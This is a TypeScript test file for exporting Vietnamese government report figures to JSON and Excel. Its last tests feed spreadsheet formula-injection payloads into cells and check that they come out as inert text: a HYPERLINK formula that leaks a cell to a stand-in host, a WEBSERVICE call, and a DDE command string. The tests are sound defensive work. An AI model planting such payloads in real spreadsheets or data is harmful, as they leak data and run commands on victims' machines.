import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { figuresJson, figuresXlsx } from '../../shared/docx/exports';
import { fixtureOrganization, fixtureReport, fixtureTemplate, HOSTILE_ITEM } from '../fixtures/docx/report';

async function loadXlsx(buffer: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  return wb;
}

function rowsOf(ws: ExcelJS.Worksheet): unknown[][] {
  const out: unknown[][] = [];
  ws.eachRow({ includeEmpty: false }, (row) => out.push((row.values as unknown[]).slice(1)));
  return out;
}

describe('figuresJson', () => {
  it('lists indicators with labels and units, ratios and tables in template order', () => {
    const json = figuresJson(fixtureReport(), fixtureTemplate);
    expect(json.period).toEqual({ id: '2021', label: 'năm 2021', from: '2020-12-15', to: '2021-12-14' });
    expect(json.indicators[0]).toEqual({
      id: 'vbqpplBanHanh',
      label: 'Số văn bản quy phạm pháp luật đã tham mưu ban hành',
      unit: 'văn bản',
      value: 5,
    });
    expect(json.indicators.find((i) => i.id === 'hoSoTiepNhan')?.value).toBe(16075);
    expect(json.ratios.find((r) => r.id === 'tyLeDvc')).toMatchObject({ value: 98.95, unit: '%', numerator: 'hoSoMucDo34' });
    const dvc = json.tables.find((t) => t.id === 'dichVuCong')!;
    expect(dvc.columns.map((c) => c.id)).toContain('tyLeMucDo34');
    expect(dvc.columns.find((c) => c.id === 'mucDo34')?.group).toBe('Dịch vụ công mức độ 3 và mức độ 4');
    expect(dvc.total?.tongHoSo).toBe(16075);
    // Plain JSON: survives a round trip unchanged.
    expect(JSON.parse(JSON.stringify(json))).toEqual(json);
  });

  it('marks a figure nobody submitted as null, not zero', () => {
    const report = fixtureReport();
    delete report.indicators.tinBai;
    report.ratios.tyLeVbdt = null;
    const json = figuresJson(report, fixtureTemplate);
    expect(json.indicators.find((i) => i.id === 'tinBai')?.value).toBeNull();
    expect(json.ratios.find((r) => r.id === 'tyLeVbdt')?.value).toBeNull();
  });
});

describe('figuresXlsx', () => {
  it('lays the indicator sheet out like form 06/VPCP/KSTT with Vietnamese headers', async () => {
    const wb = await loadXlsx(await figuresXlsx(fixtureReport(), fixtureTemplate, fixtureOrganization));
    const ws = wb.worksheets[0];
    expect(ws.name).toBe('Tổng hợp');
    const rows = rowsOf(ws);
    expect(rows[0][0]).toBe('UBND TỈNH ĐỒNG NAI');
    expect(rows[1][0]).toBe('SỞ CÔNG THƯƠNG');
    const header = rows.findIndex((r) => r[0] === 'STT');
    expect(rows[header]).toEqual(['STT', 'Chỉ tiêu', 'Đơn vị tính', 'Số liệu']);
    const received = rows.find((r) => r[1] === 'Tổng số hồ sơ đã tiếp nhận')!;
    expect(received.slice(2)).toEqual(['hồ sơ', 16075]);
    const ratio = rows.find((r) => r[1] === 'Tỷ lệ hồ sơ thực hiện dịch vụ công mức độ 3, 4')!;
    expect(ratio.slice(2)).toEqual(['%', 98.95]);
    // STT runs 1..n over indicators then ratios.
    const stts = rows.slice(header + 1).map((r) => r[0]);
    expect(stts).toEqual(Array.from({ length: stts.length }, (_, i) => i + 1));
    expect(stts.length).toBe(fixtureTemplate.indicators.length + fixtureTemplate.ratios.length);
  });

  it('adds one sheet per table with merged group headers and the total row', async () => {
    const wb = await loadXlsx(await figuresXlsx(fixtureReport(), fixtureTemplate, fixtureOrganization));
    const names = wb.worksheets.map((w) => w.name);
    expect(names.length).toBeGreaterThanOrEqual(1 + fixtureTemplate.tables.length);
    for (const n of names) expect(n.length).toBeLessThanOrEqual(31);
    const ws = wb.worksheets.find((w) => w.name.startsWith('2.'))!;
    const rows = rowsOf(ws);
    const top = rows.findIndex((r) => r[0] === 'STT');
    expect(rows[top].slice(0, 4)).toEqual([
      'STT',
      'Tên thủ tục hành chính, dịch vụ công',
      'Tổng số hồ sơ đã tiếp nhận',
      'Dịch vụ công mức độ 3 và mức độ 4',
    ]);
    expect(rows[top + 1][3]).toBe('Số hồ sơ thực hiện mức độ 3 và 4');
    let headerRow = 0;
    let totalRow = 0;
    ws.eachRow((row, n) => {
      if (row.getCell(1).value === 'STT' && !headerRow) headerRow = n;
      if (row.getCell(1).value === 'Tổng số') totalRow = n;
    });
    const h = headerRow;
    const merges = (ws.model as unknown as { merges: string[] }).merges;
    expect(merges).toEqual(expect.arrayContaining([`D${h}:E${h}`, `F${h}:G${h}`, `A${h}:A${h + 1}`, `C${h}:C${h + 1}`]));
    const total = rows.find((r) => r[0] === 'Tổng số')!;
    expect(total.slice(2)).toEqual([16075, 15906, 98.95, 169, 1.05]);
    expect(ws.getCell(`C${totalRow}`).numFmt).toBe('#,##0');
    expect(ws.getCell(`C${totalRow}`).font.bold).toBe(true);
  });

  it('exports the approval history and completeness on their own sheets', async () => {
    const wb = await loadXlsx(
      await figuresXlsx(fixtureReport(), fixtureTemplate, fixtureOrganization, {
        approvals: [{ role: 'Chánh Văn phòng', name: 'Lương Văn Bình', decidedAt: '2025-01-04T09:00:00+07:00' }],
      }),
    );
    const approvals = wb.getWorksheet('Lịch sử phê duyệt')!;
    expect(rowsOf(approvals)[1]).toEqual([1, 'Chánh Văn phòng', 'Lương Văn Bình', '2025-01-04T09:00:00+07:00']);
    const completeness = wb.getWorksheet('Tình hình gửi số liệu')!;
    expect(rowsOf(completeness)[2]).toEqual([2, 'Phòng Quản lý Công nghiệp', '2021-Q1, 2021-Q2, 2021-Q3', '2021-Q4', '2021-Q2']);
  });

  it('survives hostile text in table cells', async () => {
    const report = fixtureReport();
    report.tables.lienThong.rows[0].ten = HOSTILE_ITEM;
    const wb = await loadXlsx(await figuresXlsx(report, fixtureTemplate, fixtureOrganization));
    const ws = wb.worksheets.find((w) => w.name.startsWith('1.'))!;
    const cell = rowsOf(ws).find((r) => r[0] === 1)![1] as string;
    expect(cell).toBe(HOSTILE_ITEM.normalize('NFC').replace('\u0007', ''));
  });

  it('writes formula-like text as inert strings with a leading apostrophe, and never a formula cell', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', '+1+1', '-2+3', '@SUM(A1)', '\tx', '\rx'];
    const report = fixtureReport();
    const rows = report.tables.lienThong.rows;
    hostile.forEach((h, i) => {
      rows[i % rows.length].ten = h;
    });
    // An object smuggled in where a value belongs would be a live formula cell in exceljs.
    (rows[0] as Record<string, unknown>).ten = { formula: 'WEBSERVICE("http://evil.example")' };
    (rows[1] as Record<string, unknown>).ten = hostile[0];
    const wb = await loadXlsx(
      await figuresXlsx(report, fixtureTemplate, fixtureOrganization, {
        approvals: [{ role: '@Chánh Văn phòng', name: '=cmd|" /C calc"!A0', decidedAt: '2025-01-04T09:00:00+07:00' }],
      }),
    );
    const texts: string[] = [];
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      );
    }
    expect(texts).toContain(`'${hostile[0]}`);
    expect(texts).toContain(`'=cmd|" /C calc"!A0`);
    expect(texts).toContain(`'@Chánh Văn phòng`);
    expect(texts.filter((t) => /^[=+\-@\t\r]/.test(t))).toEqual([]);
    expect(texts.join('\n')).not.toContain('WEBSERVICE');
  });
});
